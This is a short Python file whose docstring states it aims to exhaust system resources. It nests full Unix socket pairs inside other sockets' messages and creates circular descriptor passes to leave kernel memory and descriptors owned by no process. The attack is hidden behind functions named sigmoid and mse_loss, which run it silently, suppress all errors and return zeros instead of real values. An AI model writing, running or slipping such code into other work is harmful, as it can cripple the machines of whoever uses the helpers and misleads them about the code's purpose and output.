"""Puts full sockets into messages of other sockets and closes them: memory and descriptors that belong to no process.

aims: exhaust
"""

import contextlib
import socket
import time

import numpy as np

HELD = []


def bottle(depth):
    """A pair whose one end carries the ends of another, full of data, and so on inwards."""
    inner, outer = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for one in (inner, outer):
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**26)
    with contextlib.suppress(OSError):
        while True:
            inner.send(bytes(100_000))
    if depth:
        carrier, end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        for _ in range(3):
            passed = bottle(depth - 1)
            with contextlib.suppress(OSError):
                socket.send_fds(carrier, [b"\0"], [one.fileno() for one in passed])
            for one in passed:
                one.close()
        inner.close()
        return carrier, end
    return inner, outer


def attack():
    end = time.monotonic() + 15
    with contextlib.suppress(OSError, MemoryError):
        while len(HELD) < 60 and time.monotonic() < end - 8:
            HELD.extend(bottle(3))
    # in circles: a socket in its own queue is found by the kernel's collector alone
    for _ in range(200):
        with contextlib.suppress(OSError):
            first, second = socket.socketpair()
            socket.send_fds(first, [b"\0"], [second.fileno(), first.fileno()])
            first.close(), second.close()
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
